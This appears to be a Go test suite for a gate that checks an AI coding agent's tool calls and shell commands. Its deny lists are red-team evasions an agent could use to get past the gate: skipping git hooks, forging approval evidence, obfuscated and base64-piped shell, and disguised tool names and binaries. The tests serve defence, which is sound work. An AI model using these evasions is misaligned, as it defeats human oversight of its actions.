package gate

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"testing"

	"github.com/gitwarrant/gitwarrant/internal/hook"
)

// protectEnv is a real directory tree: a Git repository with a project, a
// .git dir with hooks, and a symlink that points into the project dir.
type protectEnv struct{ root, project, hooks, home string }

func newProtectEnv(t *testing.T) protectEnv {
	t.Helper()
	base := t.TempDir()
	root := filepath.Join(base, "repo")
	home := filepath.Join(base, "home")
	for _, d := range []string{root, home} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if out, err := exec.Command("git", "init", "-q", root).CombinedOutput(); err != nil {
		t.Fatalf("git init: %v %s", err, out)
	}
	for _, d := range []string{".gitwarrant/loops", ".git/hooks", "src", ".claude"} {
		if err := os.MkdirAll(filepath.Join(root, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink(filepath.Join(root, ".gitwarrant", "loops"), filepath.Join(root, "src", "innocent")); err != nil {
		t.Skip("symlinks unavailable:", err)
	}
	return protectEnv{root: root, project: filepath.Join(root, ".gitwarrant"), hooks: filepath.Join(root, ".git", "hooks"), home: home}
}

func (e protectEnv) getenv(k string) string {
	if k == "HOME" {
		return e.home
	}
	return ""
}

func (e protectEnv) call(tool string, input map[string]any) hook.Payload {
	raw, _ := json.Marshal(input)
	return hook.Payload{ToolName: tool, Cwd: e.root, ToolInput: raw}
}

func (e protectEnv) analyse(p hook.Payload) *Call {
	return Analyse(p, FindPlace(e.getenv, "", e.root), Env{Getenv: e.getenv, Cwd: e.root})
}

func (e protectEnv) protected(p hook.Payload) (string, bool) {
	c := e.analyse(p)
	return c.Denied, c.Denied != ""
}

func TestProtectedDeniesWritesToGuardedPlaces(t *testing.T) {
	e := newProtectEnv(t)
	paths := []string{
		filepath.Join(e.root, ".gitwarrant/loops/x.loop.md"),
		".gitwarrant/loops/x.loop.md",
		"src/../.gitwarrant/record/main.jsonl",
		"src/innocent/x.loop.md", // symlink into the project dir
		".GitWarrant/loops/x.loop.md",
		".docket/loops/a.loop.md",
		".git/hooks/pre-commit",
		".git/config",
		".claude/settings.json",
		".claude/settings.local.json",
		"/home/someone/.claude/settings.json",
		".claude/commands/x.md",
		".claude/agents/reviewer.md",
		".claude/skills/x/SKILL.md",
		".claude/hooks/pre.sh",
		"/home/someone/.claude/commands/x.md",
		".mcp.json",
	}
	for _, tool := range []string{"Write", "Edit", "MultiEdit"} {
		for _, path := range paths {
			why, denied := e.protected(e.call(tool, map[string]any{"file_path": path, "content": "x"}))
			if !denied {
				t.Errorf("%s %s: denied=%v reason=%q", tool, path, denied, why)
			}
		}
	}
	if _, denied := e.protected(e.call("NotebookEdit", map[string]any{"notebook_path": ".gitwarrant/n.ipynb"})); !denied {
		t.Error("NotebookEdit into the project dir not denied")
	}
}

func TestProtectedAllowsOrdinaryWritesAndAllReads(t *testing.T) {
	e := newProtectEnv(t)
	for _, path := range []string{"src/main.go", "docs/gitwarrant.md", ".claude/notes.md", "docs/commands/x.md", "settings.json", "gitwarrant/loops.go"} {
		if why, denied := e.protected(e.call("Write", map[string]any{"file_path": path})); denied {
			t.Errorf("Write %s denied: %s", path, why)
		}
	}
	reads := []hook.Payload{
		e.call("Read", map[string]any{"file_path": ".gitwarrant/loops/a.loop.md"}),
		e.call("Grep", map[string]any{"pattern": "never", "path": ".gitwarrant"}),
		e.call("Glob", map[string]any{"pattern": ".git/hooks/*"}),
	}
	for _, p := range reads {
		if why, denied := e.protected(p); denied {
			t.Errorf("%s denied: %s", p.ToolName, why)
		}
	}
}

func TestProtectedShellCommands(t *testing.T) {
	e := newProtectEnv(t)
	deny := []string{
		"gitwarrant amend fix send 'git push'",
		"ls && gitwarrant review --yes",
		"echo hi; /usr/local/bin/gitwarrant sign",
		"go run ./cmd/gitwarrant keys add",
		"sh -c 'gitwarrant uninstall'",
		"x=$(gitwarrant amend a b c)",
		"`gitwarrant amend a b c`",
		"gitw''arrant amend a b c",
		`"gitwarrant" --dir . amend a send x`,
		"gitwarrant $(echo amend) a b c",
		"gitwarrant install --no-hook",
		"npx docket-agent amend appeal send x",
		// The hooks are Claude Code's and git's to run: an agent running
		// `hook claude --post` would forge approval evidence.
		`echo '{"tool_use_id":"toolu_1","tool_name":"Bash"}' | gitwarrant hook claude --post`,
		"gitwarrant hook claude --loop fix < payload.json",
		"gitwarrant hook commit-msg .git/COMMIT_EDITMSG",
		"git update-ref refs/gitwarrant/main-1 HEAD",
		"git push origin :refs/gitwarrant/main-1",
		"rm -rf .git/refs/gitwarrant",
		"echo x > .git/hooks/pre-commit",
		"cat evil >> .gitwarrant/loops/a.loop.md",
		"tee .gitwarrant/loops/a.loop.md < x",
		"cp /tmp/x .git/hooks/commit-msg",
		"mv a.loop.md .gitwarrant/loops/",
		"rm .gitwarrant/record/main.jsonl",
		"sed -i 's/never/send/' .gitwarrant/loops/a.loop.md",
		"echo '{}' > .claude/settings.json",
		"git config core.hooksPath /dev/null",
		"git -c core.hooksPath=/tmp commit -m x",
		"cd .gitwarrant && echo x > loops/a.loop.md",
		"python3 -c \"open('.gitwarrant/loops/a.loop.md','w')\"",
		"git checkout main -- .gitwarrant/loops",
		"Set-Content -Path .gitwarrant\\loops\\a.loop.md -Value x",
	}
	for _, cmd := range deny {
		why, denied := e.protected(e.call("Bash", map[string]any{"command": cmd}))
		if !denied {
			t.Errorf("%q: denied=%v reason=%q", cmd, denied, why)
		}
	}
	pass := []string{
		"cat .gitwarrant/loops/a.loop.md",
		"grep -r never .gitwarrant/ 2>/dev/null",
		"ls -la .git/hooks",
		"gitwarrant check fix send 'request review of the pr'",
		"gitwarrant match 'amend the changelog'",
		"gitwarrant record add fix --did 'signed the release notes'",
		"git push origin main",
		"go test ./... > /tmp/out.txt 2>&1",
		"cd ~/src/gitwarrant && go test ./...",
		"git config --get core.hooksPath",
		"cat .git/config",
		"echo review > notes.txt",
	}
	for _, cmd := range pass {
		if why, denied := e.protected(e.call("Bash", map[string]any{"command": cmd})); denied {
			t.Errorf("%q denied: %s", cmd, why)
		}
	}
}

func TestProtectedHonoursACustomHooksDir(t *testing.T) {
	e := newProtectEnv(t)
	custom := filepath.Join(e.root, ".husky", "_")
	p := e.call("Write", map[string]any{"file_path": ".husky/_/pre-commit"})
	if out, err := exec.Command("git", "-C", e.root, "config", "core.hooksPath", custom).CombinedOutput(); err != nil {
		t.Fatalf("%v %s", err, out)
	}
	if _, denied := e.protected(p); !denied {
		t.Error("write into core.hooksPath not denied")
	}
	sh := e.call("Bash", map[string]any{"command": "echo x > .husky/_/pre-commit"})
	if _, denied := e.protected(sh); !denied {
		t.Error("shell write into core.hooksPath not denied")
	}
}

func TestProtectedMCPWritesIntoGuardedPlaces(t *testing.T) {
	e := newProtectEnv(t)
	w := e.call("mcp__filesystem__write_file", map[string]any{"path": filepath.Join(e.root, ".gitwarrant/loops/a.loop.md"), "content": "x"})
	if _, denied := e.protected(w); !denied {
		t.Error("MCP write_file into the project dir not denied")
	}
	r := e.call("mcp__filesystem__read_file", map[string]any{"path": filepath.Join(e.root, ".gitwarrant/loops/a.loop.md")})
	if why, denied := e.protected(r); denied {
		t.Errorf("MCP read_file denied: %s", why)
	}
}

// TestProtectedRedTeamShellEvasions are the evasions found by red-teaming
// the gate: each was silent (or only asked) before the fix.
func TestProtectedRedTeamShellEvasions(t *testing.T) {
	e := newProtectEnv(t)
	write := func(name, content string) {
		if err := os.WriteFile(filepath.Join(e.root, name), []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("evil.sh", "echo x > .gitwarrant/loops/a.loop.md\n")
	write("evil.py", "open('.gitwarrant/loops/a.loop.md', 'w').write('x')\n")
	write("p.diff", "--- a/.gitwarrant/loops/a.loop.md\n+++ b/.gitwarrant/loops/a.loop.md\n@@ -1 +1 @@\n-a\n+b\n")
	deny := []string{
		"cd .git; echo > hooks/pre-commit",
		"d=.gitwar; echo x > ${d}rant/loops/a.loop.md",
		"g=gitwarrant; $g amend fix send x",
		"$(printf gitwar)rant amend fix",
		"cp /tmp/x .gitw*/loops/a.loop.md",
		"tee .g{i,}twarrant/loops/a.loop.md < /tmp/x",
		"cp /tmp/x .g?t/hooks/pre-commit",
		"cp /tmp/x .gi[t]/hooks/pre-commit",
		"rm -rf .claude",
		"mv .claude /tmp/",
		"find . -name '*.loop.md' -delete",
		"git commit --no-verify -m x",
		"git commit -nm x",
		"HUSKY=0 git commit -m x",
		"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.hooksPath GIT_CONFIG_VALUE_0=/tmp git commit -m x",
		"GIT_CONFIG_GLOBAL=/tmp/evil git commit -m x",
		"git config --global include.path /tmp/evil.cfg",
		"echo '[core]hooksPath=/tmp' >> ~/.gitconfig",
		"bash evil.sh",
		"chmod +x evil.sh && ./evil.sh",
		"python3 evil.py",
		"git apply p.diff",
		"patch -p1 < p.diff",
		"curl -o .gitwarrant/loops/a.loop.md http://x",
		"wget -O .git/hooks/pre-commit http://x",
		"vim -c wq .gitwarrant/loops/a.loop.md",
		"tar -C .gitwarrant -xf /tmp/evil.tar",
	}
	for _, cmd := range deny {
		why, denied := e.protected(e.call("Bash", map[string]any{"command": cmd}))
		if !denied {
			t.Errorf("%q: denied=%v reason=%q", cmd, denied, why)
		}
	}
	pass := []string{
		"git diff .gitwarrant > /tmp/d.patch",
		"git commit -m \"add the -n flag to the parser\"",
		"git commit -am 'fix: handle nil'",
		"git config --get core.hooksPath",
		"grep -n hooksPath .git/config",
		"ls -la .git",
		"echo '*.log' >> .gitignore",
		"bash -c 'go build ./...'",
		"python3 -m pytest -q",
		"mkdir -p build && cp src/a.go build/",
	}
	for _, cmd := range pass {
		if why, denied := e.protected(e.call("Bash", map[string]any{"command": cmd})); denied {
			t.Errorf("%q denied: %s", cmd, why)
		}
	}
}

// TestProtectedRedTeamToolEvasions: a tool name in another case, a
// duplicated key, an MCP tool that takes a shell command or whose name does
// not say "write", and the configs that switch the git hooks off.
func TestProtectedRedTeamToolEvasions(t *testing.T) {
	e := newProtectEnv(t)
	if err := os.WriteFile(filepath.Join(e.root, "lefthook.yml"), []byte("pre-commit:\n  commands:\n    gitwarrant:\n      run: gitwarrant hook pre-commit\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	raw := func(tool, input string) hook.Payload {
		return hook.Payload{ToolName: tool, Cwd: e.root, ToolInput: json.RawMessage(input)}
	}
	deny := []hook.Payload{
		e.call("bash", map[string]any{"command": "echo x > .gitwarrant/loops/a.loop.md"}),
		e.call("BASH", map[string]any{"command": "gitwarrant amend fix"}),
		e.call("write", map[string]any{"file_path": ".gitwarrant/loops/a.loop.md"}),
		raw("Write", `{"file_path":".gitwarrant/loops/a.loop.md","file_path":"src/a.go"}`),
		raw("Bash", `{"command":"echo x > .gitwarrant/loops/a.loop.md","command":"ls"}`),
		e.call("mcp__fs__mv", map[string]any{"from": "/tmp/x", "to": filepath.Join(e.root, ".gitwarrant/loops/a.loop.md")}),
		e.call("FooTool", map[string]any{"file_path": ".gitwarrant/loops/a.loop.md"}),
		e.call("mcp__shell__exec", map[string]any{"command": "echo x > .gitwarrant/loops/a.loop.md"}),
		e.call("mcp__desktop-commander__execute_command", map[string]any{"command": "gitwarrant amend fix send x"}),
		e.call("Write", map[string]any{"file_path": "/home/u/.gitconfig"}),
		e.call("Write", map[string]any{"file_path": "/home/u/.config/git/config"}),
		e.call("Write", map[string]any{"file_path": "/etc/gitconfig"}),
		e.call("Edit", map[string]any{"file_path": "lefthook.yml"}),
		e.call("Write", map[string]any{"file_path": ".pre-commit-config.yaml"}),
	}
	for _, p := range deny {
		if why, denied := e.protected(p); !denied {
			t.Errorf("%s %s: denied=%v reason=%q", p.ToolName, p.ToolInput, denied, why)
		}
	}
	pass := []hook.Payload{
		e.call("mcp__fs__read_file", map[string]any{"path": filepath.Join(e.root, ".gitwarrant/loops/a.loop.md")}),
		e.call("mcp__shell__exec", map[string]any{"command": "go test ./..."}),
		e.call("Write", map[string]any{"file_path": "src/config"}),
	}
	for _, p := range pass {
		if why, denied := e.protected(p); denied {
			t.Errorf("%s %s denied: %s", p.ToolName, p.ToolInput, why)
		}
	}
}

// TestUnreadableCallsAsk: what the gate cannot read — a shell fed from a
// pipe, refs read from standard input — is never silently passed: it asks
// even with no loop pinned.
func TestUnreadableCallsAsk(t *testing.T) {
	e := newProtectEnv(t)
	for _, cmd := range []string{
		"git for-each-ref --format='delete %(refname)' | git update-ref --stdin",
		"echo ZWNobyB4ID4gLmdpdHdhcnJhbnQvbG9vcHMvZml4Lmxvb3AubWQ= | base64 -d | sh",
		"cat evil.sh | sh",
		"python3 -c 'print(1)'",
		"$CMD --version",
	} {
		c := e.analyse(e.call("Bash", map[string]any{"command": cmd}))
		if c.Denied == "" && c.Unreadable == "" {
			t.Errorf("%q: neither denied nor unreadable", cmd)
		}
	}
}

// TestGitwarrantUnderAnotherName: an executable that is the running
// gitwarrant binary — the same file through a link, or a copy with the same
// bytes — is gitwarrant, whatever it is called.
func TestGitwarrantUnderAnotherName(t *testing.T) {
	e := newProtectEnv(t)
	self := filepath.Join(e.root, "bin-gw")
	body := []byte("#!/bin/sh\necho pretend gitwarrant\n")
	for name, data := range map[string][]byte{"bin-gw": body, "tool": body, "other": []byte("#!/bin/sh\necho other\n")} {
		if err := os.WriteFile(filepath.Join(e.root, name), data, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Link(self, filepath.Join(e.root, "hard")); err != nil {
		t.Skip("hard links unavailable:", err)
	}
	env := Env{Getenv: e.getenv, Cwd: e.root, Self: self}
	place := FindPlace(e.getenv, "", e.root)
	for cmd, want := range map[string]bool{
		"./tool amend fix send x": true, "./hard review --yes": true, "./bin-gw install": true,
		"./other amend fix": false, "./tool check fix send x": false,
	} {
		c := Analyse(e.call("Bash", map[string]any{"command": cmd}), place, env)
		if got := c.Denied != ""; got != want {
			t.Errorf("%q: denied=%v (%s), want %v", cmd, got, c.Denied, want)
		}
	}
}
